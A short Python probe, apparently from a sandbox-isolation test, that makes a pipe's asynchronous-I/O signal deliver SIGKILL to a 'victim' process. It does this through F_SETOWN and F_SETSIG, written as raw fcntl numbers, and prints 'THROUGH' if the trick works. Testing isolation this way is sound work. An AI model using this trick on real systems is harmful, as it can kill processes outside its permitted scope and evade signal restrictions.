"""Lets the kernel send a signal to another process, as the owner of a pipe (F_SETOWN, O_ASYNC)."""

import fcntl
import os

r, w = os.pipe()
fcntl.fcntl(r, 8, targets["victim"])
fcntl.fcntl(r, 10, 9)
fcntl.fcntl(r, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
os.write(w, b"x")
print("THROUGH")
